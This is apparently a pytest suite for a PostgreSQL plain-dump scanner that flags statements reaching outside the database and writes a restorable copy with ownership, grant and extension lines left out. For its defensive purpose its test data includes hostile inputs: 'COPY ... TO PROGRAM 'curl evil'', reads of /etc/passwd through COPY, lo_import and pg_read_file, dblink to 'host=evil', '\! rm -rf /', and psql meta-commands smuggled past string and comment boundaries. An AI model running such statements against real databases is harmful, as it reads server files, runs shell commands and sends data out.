"""The plain-dump scanner: what it refuses, what it records, and the restorable copy."""

from __future__ import annotations

import io
import subprocess

import psycopg
import pytest

from busflow_verify.core.restore.plain_scan import scan_plain, write_restorable

PRELUDE = "SET standard_conforming_strings = on;\nSELECT pg_catalog.set_config('search_path', '', false);\n"


def scan_of(text: str):
    return scan_plain(io.StringIO(PRELUDE + text))


def kinds(text: str) -> list[str]:
    return [kind for _, kind in scan_of(text).unsafe]


@pytest.mark.parametrize(
    "sql, kind",
    [
        ("COPY public.t TO PROGRAM 'curl evil';", "COPY ... TO PROGRAM"),
        ("copy public.t from program 'id';", "COPY ... FROM PROGRAM"),
        ("COPY t FROM '/etc/passwd';", "COPY ... FROM a server file"),
        ("COPY t TO '/tmp/x';", "COPY ... TO a server file"),
        ("COPY t FROM E'/etc/\\\\passwd';", "COPY ... FROM a server file"),
        ("COPY t FROM $$/etc/passwd$$;", "COPY ... FROM a server file"),
        ("COPY (SELECT 1 FROM x) TO '/x';", "COPY ... TO a server file"),
        ("COPY t (a, b)\n  FROM\n  '/x';", "COPY ... FROM a server file"),
        ("COPY t FROM 'stdin';", "COPY ... FROM a server file"),
        ("SELECT lo_import('/etc/passwd');", "lo_import()"),
        ("SELECT pg_catalog.lo_export(16404, '/tmp/x');", "lo_export()"),
        ("SELECT PG_CATALOG.LO_IMPORT ('/x');", "lo_import()"),
        ("SELECT pg_catalog.\"lo_import\"('/x');", "lo_import()"),
        ("SELECT pg_read_file\n  ('/etc/passwd');", "pg_read_file()"),
        ("SELECT pg_read_binary_file('/x');", "pg_read_binary_file()"),
        ("SELECT * FROM pg_ls_dir('/');", "pg_ls_dir()"),
        ("SELECT pg_stat_file /* c */ ('/x');", "pg_stat_file()"),
        ("SELECT pg_file_write('/x', 'y', false);", "pg_file_write()"),
        ("SELECT pg_file_rename('/x', '/y');", "pg_file_rename()"),
        ("SELECT pg_file_unlink('/x');", "pg_file_unlink()"),
        ("SELECT * FROM pg_logdir_ls();", "pg_logdir_ls()"),
        ("SELECT dblink('host=evil', 'SELECT 1');", "dblink()"),
        ("SELECT public.dblink_exec('x', 'y');", "dblink_exec()"),
        ("SELECT dblink_connect('c', 'host=evil');", "dblink_connect()"),
        ("CREATE TABLE x AS SELECT 1 AS a,\n  lo_import('/x') AS b;", "lo_import()"),
        (
            "SET standard_conforming_strings = off;",
            "a change of standard_conforming_strings or client_encoding",
        ),
        (
            "SELECT set_config('standard_conforming_strings', 'off', false);",
            "a change of standard_conforming_strings or client_encoding",
        ),
        (
            "SET client_encoding = 'SJIS';",
            "a change of standard_conforming_strings or client_encoding",
        ),
    ],
)
def test_statements_reaching_outside_the_database_are_refused(sql, kind):
    scan = scan_of("CREATE TABLE t (a int);\n" + sql + "\n")
    assert [k for _, k in scan.unsafe] == [kind]
    line = scan.unsafe[0][0]
    assert line == 4  # the line the statement starts at
    assert scan.unsafe_statements[0]["line"] == line
    assert scan.unsafe_statements[0]["statement"].startswith(sql.split()[0])


@pytest.mark.parametrize(
    "sql",
    [
        "COPY public.actor (actor_id, first_name) FROM stdin;\n1\tA\n\\.",
        'COPY "Odd"."Ta ble" ("from") FROM STDIN;\n\\.',
        "copy t from stdin;\n\\.",
        "COPY t TO STDOUT;",
        "COPY (SELECT 1) TO stdout WITH (FORMAT csv);",
        "SELECT pg_catalog.lo_create('16404');",
        "SELECT pg_catalog.lo_open('16404', 131072);",
        "SELECT pg_catalog.lowrite(0, '\\x0102');",
        "SELECT pg_catalog.lo_close(0);",
        "SELECT pg_catalog.lo_unlink('16404');",
        "SELECT pg_catalog.setval('public.s', 1, true);",
        "SELECT pg_catalog.binary_upgrade_set_next_pg_type_oid('16385'::pg_catalog.oid);",
        "SET client_encoding = 'UTF8';",
        "SELECT my_lo_import('/x');",
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql\n    AS $$SELECT pg_read_file('/x')$$;",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql\n    AS $_$\nBEGIN\n  PERFORM lo_import('/x');\n"
        "  COPY t TO PROGRAM 'x';\nEND\n$_$;",
        "DO $$ BEGIN PERFORM dblink('x', 'y'); END $$;",
        "COMMENT ON TABLE t IS 'uses lo_import(''/x'') and COPY t TO PROGRAM ''x''';",
        "-- SELECT lo_import('/x');\nSELECT 1;",
        "/* COPY t TO PROGRAM 'x'; \\! rm */ SELECT 1;",
        "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql\nBEGIN ATOMIC\n SELECT CASE WHEN a > 0 THEN 1 END;\n"
        " SELECT 2;\nEND;",
    ],
)
def test_what_pg_dump_writes_and_text_that_is_not_top_level_passes(sql):
    assert kinds("CREATE TABLE t (a int);\n" + sql + "\n") == []


def test_copy_data_is_not_scanned():
    data = "COPY t (a) FROM stdin;\nCOPY t TO PROGRAM 'x';\n\\! rm -rf /\n'\nlo_import('/x')\n\\.\nSELECT 1;\n"
    scan = scan_of(data)
    assert scan.unsafe == []
    assert scan.copies == [(3, "t")]


@pytest.mark.parametrize(
    "text, unsafe",
    [
        ("\\! touch /tmp/x\n", [(3, "\\!")]),
        ("SELECT 1; \\! id\n", [(3, "\\!")]),
        ("\\connect postgres\n", []),
        ("\\connect -reuse-previous=on \"dbname='busflow-prod'\"\n", []),
        ("\\c postgres\n", []),
        ("\\restrict abc123XYZ\n\\unrestrict abc123XYZ\n", []),
        ("  \\connect postgres\n", []),
        ("SELECT 1 \\connect x\n", [(3, "\\connect")]),
        ("SELECT '\\! not a command';\n", []),
        ("SELECT E'\\'\\! still a string';\n", []),
        ("SELECT $tag$ \\! $tag$;\n", []),
        ('SELECT "\\!";\n', []),
        ("/* \\!\n \\! */ SELECT 1;\n", []),
        ("SELECT 'a\n\\! inside a string\n';\n", []),
        ("\\set x 1\n", [(3, "\\set")]),
        ("\\copy t from '/x'\n", [(3, "\\copy")]),
        ("\\c postgres \\! echo x\n", [(3, "\\c with unexpected arguments")]),
        ("\\c `echo postgres`\n", [(3, "\\c with unexpected arguments")]),
        ('\\connect "host=evil dbname=x"\n', [(3, "\\connect with unexpected arguments")]),
        # psql's lexer: abcE' is the identifier abcE and a standard string, in which \ is no escape
        ("SELECT namE'\\'; \\! echo x\n;--'\n", [(3, "\\!")]),
        # psql ends a -- comment at a CR too
        ("SELECT 1; -- x\r\\! echo x\n", [(3, "\\!")]),
        # only a line that is exactly \. ends COPY data (psql 15)
        ("COPY t (a) FROM stdin;\n1\n\\.\r\r\n'\n\\.\n\\! echo x\n", [(8, "\\!")]),
        # two COPY FROM stdin on one line: psql reads two data blocks
        ("COPY a FROM stdin; COPY b FROM stdin;\n'\n\\.\n'\n\\.\n\\! echo x\n", [(8, "\\!")]),
    ],
)
def test_meta_commands(text, unsafe):
    assert scan_of(text).unsafe == unsafe


def test_unsafe_is_ordered_by_line():
    scan = scan_of("SELECT 1,\n lo_import('/x');\n\\! x\n")
    assert [line for line, _ in scan.unsafe] == [3, 5]


@pytest.mark.parametrize(
    "line, name, schema",
    [
        ("CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public;", "pgcrypto", "public"),
        (
            'CREATE EXTENSION IF NOT EXISTS "uuid-ossp" WITH SCHEMA "Ext Schema";',
            "uuid-ossp",
            "Ext Schema",
        ),
        ("CREATE EXTENSION hstore;", "hstore", None),
        ("create extension citext schema ext version '1.6' cascade;", "citext", "ext"),
        ("CREATE EXTENSION IF NOT EXISTS postgis\n    WITH SCHEMA gis;", "postgis", "gis"),
    ],
)
def test_extension_name_and_schema(line, name, schema):
    scan = scan_of(line + "\n")
    assert scan.extensions == [name]
    assert scan.extension_schemas == {name: schema}


STATEMENTS = """CREATE TABLE public.t (
    id integer,
    b text
);
SELECT 1; SELECT 2;
COPY public.t (id, b) FROM stdin;
1\tx
\\.
CREATE FUNCTION f() RETURNS int
    LANGUAGE sql
    AS $$
SELECT 1;
$$;
SELECT (1;
2);
"""


@pytest.mark.parametrize(
    "line, start, end, head",
    [
        (1, 1, 1, "SET standard_conforming_strings = on;"),
        (6, 3, 6, "CREATE TABLE public.t ( id integer, b text );"),
        (4, 3, 6, "CREATE TABLE public.t ( id integer, b text );"),
        (7, 7, 7, "SELECT 1;"),
        (10, 8, 10, "COPY public.t (id, b) FROM stdin;"),  # psql names the \. line of a COPY
        (15, 11, 15, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1; $$;"),
        (17, 16, 17, "SELECT (1; 2);"),
        (18, None, None, None),
    ],
)
def test_statement_at(line, start, end, head):
    found = scan_of(STATEMENTS).statement_at(line)
    assert (found and (found["start_line"], found["end_line"], found["head"])) == (
        (start, end, head) if start else None
    )


def test_statement_heads_are_short():
    scan = scan_of("SELECT '" + "x" * 5000 + "';\n")
    assert len(scan.statement_at(3)["head"]) == 200


DUMP = """SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
CREATE SCHEMA ext;
CREATE SCHEMA "Other";
CREATE SCHEMA app;
CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA ext;
COMMENT ON EXTENSION pgcrypto IS 'cryptographic functions';
SET SESSION AUTHORIZATION 'app';
ALTER TABLE public.actor OWNER TO postgres;
ALTER FUNCTION public.f(integer) OWNER TO app;
ALTER LARGE OBJECT 16404 OWNER TO app;
ALTER SCHEMA x OWNER TO y;
ALTER DATABASE x OWNER TO y;
ALTER TABLE public.actor
    OWNER TO postgres;
COPY public.actor (id, note) FROM stdin;
1\tALTER TABLE x OWNER TO y;
2\tGRANT ALL ON t TO u;
\\.
SELECT 'GRANT ALL ON t TO u;
';
CREATE FUNCTION g() RETURNS int LANGUAGE sql AS $$
GRANT ALL ON t TO u;
$$;
SELECT 1; GRANT ALL ON t TO u;
GRANT ALL ON t TO u; SELECT 1;
RESET SESSION AUTHORIZATION;
REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO app;
ALTER DEFAULT PRIVILEGES FOR ROLE app IN SCHEMA public GRANT SELECT ON TABLES TO app;
"""

LEFT_OUT = [
    (3, "schema"),
    (4, "schema"),
    (6, "extension"),
    (7, "extension_comment"),
    (8, "session_authorization"),
    (9, "owner"),
    (10, "owner"),
    (11, "owner"),
    (12, "owner"),
    (13, "owner"),
    (27, "session_authorization"),
    (28, "revoke"),
    (29, "grant"),
    (30, "default_privileges"),
]


@pytest.mark.parametrize("kind", ["text", "binary", "path"])
def test_write_restorable_replaces_only_whole_line_statements(kind, tmp_path):
    original = DUMP.replace("ALTER DATABASE", "ALTER  DATABASE").replace("\n", "\r\n", 3)
    scan = scan_plain(io.StringIO(original))
    if kind == "text":
        out = io.StringIO()
        left = write_restorable(io.StringIO(original), out, scan, {"ext", "Other"})
        written = out.getvalue()
    elif kind == "binary":
        out = io.BytesIO()
        left = write_restorable(io.BytesIO(original.encode()), out, scan, ["ext", "Other"])
        written = out.getvalue().decode()
    else:
        (tmp_path / "in.sql").write_text(original, newline="")
        left = write_restorable(tmp_path / "in.sql", tmp_path / "out.sql", scan, {"ext", "Other"})
        written = (tmp_path / "out.sql").read_bytes().decode()
    assert [(item["line"], item["kind"]) for item in left] == LEFT_OUT
    before, after = original.split("\n"), written.split("\n")
    assert len(before) == len(after)
    replaced = {n for n, _ in LEFT_OUT}
    for number, (old, new) in enumerate(zip(before, after), start=1):
        if number in replaced:
            assert new.startswith("-- busflow-verify: left out: " + " ".join(old.split())[:40]), (
                number
            )
            assert new.endswith("\r") == old.endswith("\r")
        else:
            assert new == old, number
    assert scan_plain(io.StringIO(written)).unsafe == []


def test_write_restorable_refuses_a_file_that_is_not_the_scanned_one():
    scan = scan_of("GRANT ALL ON t TO u;\n")
    with pytest.raises(ValueError, match="line 3"):
        write_restorable(io.StringIO(PRELUDE + "SELECT 1;\n"), io.StringIO(), scan)


def test_write_restorable_copies_undecodable_bytes_unchanged(tmp_path):
    raw = (PRELUDE + "COMMENT ON TABLE t IS 'caf\xe9';\nGRANT ALL ON t TO \"\xe9\";\n").encode(
        "latin-1"
    )
    (tmp_path / "in.sql").write_bytes(raw)
    with open(tmp_path / "in.sql", encoding="utf-8", errors="replace") as fh:
        scan = scan_plain(fh)
    with (
        open(tmp_path / "in.sql", encoding="utf-8", errors="surrogateescape", newline="") as src,
        open(
            tmp_path / "out.sql", "w", encoding="utf-8", errors="surrogateescape", newline=""
        ) as dst,
    ):
        assert [i["line"] for i in write_restorable(src, dst, scan)] == [4]
    out = (tmp_path / "out.sql").read_bytes().split(b"\n")
    assert out[:3] == raw.split(b"\n")[:3] and out[3].startswith(b"-- busflow-verify")


@pytest.mark.e2e
def test_a_real_pg_dump_passes_and_loses_only_ownership_privileges_and_extensions(
    source_pg, tmp_path
):
    with psycopg.connect(**source_pg.conninfo().kwargs(), autocommit=True) as conn:
        conn.execute("DROP DATABASE IF EXISTS plainscan_src")
        conn.execute("CREATE DATABASE plainscan_src")
        conn.execute(
            "DO $$ BEGIN CREATE ROLE plainscan_app; EXCEPTION WHEN duplicate_object "
            "THEN NULL; END $$"
        )
    with psycopg.connect(**source_pg.conninfo("plainscan_src").kwargs(), autocommit=True) as conn:
        conn.execute("""
            CREATE SCHEMA crypto;
            CREATE EXTENSION pgcrypto WITH SCHEMA crypto;
            COMMENT ON EXTENSION pgcrypto IS 'crypto functions';
            CREATE TABLE public.items(id int PRIMARY KEY, note text);
            INSERT INTO public.items SELECT g, 'GRANT ALL ON t TO u; \\! x ' || g
                FROM generate_series(1, 50) g;
            CREATE INDEX items_note ON public.items(note);
            CREATE FUNCTION public.item_count() RETURNS bigint LANGUAGE plpgsql AS $$
                BEGIN RETURN (SELECT count(*) FROM public.items); END $$;
            ALTER TABLE public.items OWNER TO plainscan_app;
            GRANT SELECT ON public.items TO PUBLIC;
            """)
    dump = tmp_path / "plain.sql"
    subprocess.run(
        [
            source_pg.tool("pg_dump"),
            "-Fp",
            *source_pg.conninfo("plainscan_src").libpq_args(),
            "-f",
            str(dump),
        ],
        check=True,
        capture_output=True,
    )
    with open(dump, encoding="utf-8", errors="replace") as fh:
        scan = scan_plain(fh)
    assert scan.unsafe == []
    assert scan.extension_schemas == {"pgcrypto": "crypto"}
    assert scan.copies and scan.copies[0][1] == "public.items"
    left = write_restorable(dump, tmp_path / "restorable.sql", scan, {"crypto"})
    got = {(item["kind"], item["statement"]) for item in left}
    assert {
        ("schema", "CREATE SCHEMA crypto;"),
        ("extension", "CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA crypto;"),
        ("extension_comment", "COMMENT ON EXTENSION pgcrypto IS 'crypto functions';"),
        ("owner", "ALTER TABLE public.items OWNER TO plainscan_app;"),
        ("grant", "GRANT SELECT ON TABLE public.items TO PUBLIC;"),
    } <= got
    assert {kind for kind, _ in got} <= {
        "schema",
        "extension",
        "owner",
        "grant",
        "extension_comment",
        "revoke",
    }
    original = dump.read_bytes().split(b"\n")
    restorable = (tmp_path / "restorable.sql").read_bytes().split(b"\n")
    assert len(original) == len(restorable)
    assert sum(a != b for a, b in zip(original, restorable)) == len(left)
    statement = scan.statement_at(next(n for n, t in scan.copies))
    assert statement["head"].startswith("COPY public.items (id, note) FROM stdin;")
